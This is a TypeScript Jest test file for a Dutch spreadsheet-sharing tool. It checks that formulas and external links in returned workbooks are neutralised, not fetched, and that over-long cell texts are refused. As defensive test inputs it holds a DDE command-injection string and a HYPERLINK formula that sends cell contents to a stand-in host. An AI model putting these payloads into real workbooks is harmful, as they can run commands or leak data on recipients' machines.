import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { partOf, withParts } from "../../test/support/ooxml.ts";
import { filledIn, readyToShare, shareCopy, typed } from "../../test/support/sharing.ts";
import { textLimit, type Evaluation } from "../model/evaluation/evaluation.ts";
import { parseJson, toJson } from "../model/evaluation/json.ts";
import type { Blueprint, Cell } from "../workbook/blueprint.ts";
import { build } from "../workbook/build.ts";
import { parseArea } from "../workbook/grid.ts";
import { openPackage } from "../xlsx/package.ts";
import { readBlueprint, readContents, writeBlueprint } from "../xlsx/index.ts";
import { run } from "./run.ts";

jest.setTimeout(120_000);

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "spiegel-vijandig-"));
  await writeFile(join(folder, "eigen.xlsx"), await writeBlueprint(build(readyToShare)));
});

afterAll(() => rm(folder, { recursive: true, force: true }));

async function spiegel(...words: readonly string[]): Promise<string> {
  let [out, err] = ["", ""];
  const output = { out: (text: string) => void (out += text), err: (text: string) => void (err += text) };
  const format = { encode: writeBlueprint, decode: readContents, decodeWhole: readBlueprint };
  const code = await run(words, output, { folder, format });
  if (code !== 0) throw new Error(err);
  return out;
}

const bytesOf = async (name: string): Promise<Uint8Array> => new Uint8Array(await readFile(join(folder, name)));

/** The workbook with a formula in a named cell, which calculated to a value. */
function calculating(blueprint: Blueprint, name: string, formula: string, value: string): Blueprint {
  const found = blueprint.names.find((one) => one.name === name);
  if (found === undefined) throw new RangeError(name);
  const { top, left } = parseArea(found.address);
  const change = (cell: Cell): Cell => (cell.row === top && cell.column === left ? { ...cell, formula, value } : cell);
  const sheets = blueprint.sheets.map((sheet) =>
    sheet.name === found.sheet ? { ...sheet, cells: sheet.cells.map(change) } : sheet,
  );
  return { ...blueprint, sheets };
}

const holding = (blueprint: Blueprint, text: string): readonly Cell[] =>
  blueprint.sheets.flatMap(({ cells }) => cells.filter(({ value }) => value === text));

test("[HF20] of a formula in a copy that came back only what it showed is taken over", async () => {
  const shown = "Zie onze pagina";
  const copy = calculating(
    typed(shareCopy(readyToShare), filledIn),
    "deel_1_vraag_1",
    '=HYPERLINK("https://example.org/?"&A1,"Zie onze pagina")',
    shown,
  );
  await writeFile(join(folder, "formule.xlsx"), await writeBlueprint(copy));
  await spiegel("neem-over", "eigen.xlsx", "formule.xlsx", "--uit", "formule-na.xlsx");
  const { blueprint } = await readBlueprint(await bytesOf("formule-na.xlsx"));
  expect(holding(blueprint, shown).map(({ formula }) => formula)).toContain(undefined);
  expect(JSON.stringify(blueprint)).not.toContain("example.org");
});

const head = ["--organisatie", "OD Voorbeeld", "--jaar", "2026"];
const spoken = ["=1+1", '=HYPERLINK("https://example.org")', "+31 6", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", "'=1"];

test.each(spoken)("[HF21] the answer %s stays a text: from JSON, from a copy, and back", async (text) => {
  const asked: Evaluation = {
    ...readyToShare,
    profiles: {
      ...readyToShare.profiles,
      casemanager: { ...readyToShare.profiles.casemanager, justification: text },
    },
  };
  await writeFile(join(folder, "a.json"), JSON.stringify(toJson(asked)));
  await spiegel("maak", ...head, "--antwoorden", "a.json", "--uit", "a.xlsx", "--overschrijf");
  const copy = typed(shareCopy(readyToShare), { ...filledIn, deel_1_vraag_1: text });
  await writeFile(join(folder, "b.xlsx"), await writeBlueprint(copy));
  await spiegel("neem-over", "a.xlsx", "b.xlsx", "--uit", "c.xlsx", "--overschrijf");
  const { blueprint } = await readBlueprint(await bytesOf("c.xlsx"));
  const cells = holding(blueprint, text).filter(({ formula }) => formula === undefined);
  expect(cells.length).toBeGreaterThanOrEqual(2);
  const read = parseJson(await spiegel("lees", "c.xlsx"));
  expect(read.ok ? read.value.profiles.casemanager.justification : read.problems).toBe(text);
  expect(read.ok ? read.value.peerReview.entries.map(({ note }) => note) : []).toContain(text);
});

test("[HF22] what a copy links to is neither followed nor taken along", async () => {
  const copy = await withParts(await writeBlueprint(typed(shareCopy(readyToShare), filledIn)), {
    "xl/_rels/workbook.xml.rels": (xml) =>
      xml.replace(
        "</Relationships>",
        '<Relationship Id="rX" Type="http://x/externalLink" Target="https://example.org/x.xlsx" TargetMode="External"/></Relationships>',
      ),
    "xl/worksheets/sheet1.xml": (xml) =>
      xml.replace("</worksheet>", '<hyperlinks><hyperlink ref="A1" r:id="rX"/></hyperlinks></worksheet>'),
  });
  expect(await partOf(copy, "xl/_rels/workbook.xml.rels")).toContain("example.org");
  await writeFile(join(folder, "koppeling.xlsx"), copy);
  const connect = jest.spyOn(globalThis, "fetch");
  await spiegel("neem-over", "eigen.xlsx", "koppeling.xlsx", "--uit", "koppeling-na.xlsx");
  expect(connect).not.toHaveBeenCalled();
  connect.mockRestore();
  const after = openPackage(await bytesOf("koppeling-na.xlsx"));
  for (const part of after.names()) expect(await after.text(part)).not.toContain("example.org");
});

/** A text that is as long as a cell takes, and so many characters longer. */
const long = (more: number): string => "x".repeat(textLimit + more);

/** A file in which another program put a text of that length in place of one that stood there. */
const lengthened = (file: Uint8Array, text: string, more: number): Promise<Uint8Array> =>
  withParts(file, { "xl/sharedStrings.xml": (xml) => xml.replaceAll(`>${text}<`, () => `>${long(more)}<`) });

const withoutName = (file: Uint8Array, name: string): Promise<Uint8Array> =>
  withParts(file, {
    "xl/workbook.xml": (xml) => xml.replace(new RegExp(`<definedName name="${name}"[^<]*</definedName>`), ""),
  });

const said = (words: readonly string[]): Promise<string> =>
  spiegel(...words, "--overschrijf").catch((error: unknown) => String(error));

test("[HF23] a text that is longer than a cell takes is refused with its place, or cut and told where a whole workbook is written", async () => {
  const text = "Dit wordt een lange tekst.";
  const { casemanager } = readyToShare.profiles;
  const profiles = { ...readyToShare.profiles, casemanager: { ...casemanager, justification: text } };
  const own = await writeBlueprint(build({ ...readyToShare, profiles }));
  const copy = await writeBlueprint(typed(shareCopy(readyToShare), { ...filledIn, deel_1_vraag_1: text }));
  const refused = /Stap 1 Zelfevaluatie [A-Z]+\d+: .*meer dan 32\.767 tekens.*Kort de tekst in/;
  const commands = [
    [["lees", "lang.xlsx", "--uit", "lang.json"], refused],
    [["deel", "lang.xlsx", "--uit", "lang-na.xlsx", "--akkoord"], refused],
    [["verzamel", "lang.xlsx", "--uit", "lang-na.xlsx"], refused],
    [
      ["neem-over", "eigen.xlsx", "lang-terug.xlsx", "--uit", "lang-na.xlsx"],
      /tekst na 32\.767 tekens in een cel op blad/,
    ],
    [["herstel", "lang-kapot.xlsx", "--uit", "lang-na.xlsx"], /tekst na 32\.767 tekens in een cel op blad/],
  ] as const;
  for (const more of [0, 1]) {
    const longer = await lengthened(own, text, more);
    await writeFile(join(folder, "lang.xlsx"), longer);
    await writeFile(join(folder, "lang-kapot.xlsx"), await withoutName(longer, "conclusie_2"));
    await writeFile(join(folder, "lang-terug.xlsx"), await lengthened(copy, text, more));
    for (const [words, told] of commands) {
      expect([more, words[0], told.test(await said(words))]).toEqual([more, words[0], more > 0]);
    }
  }
});
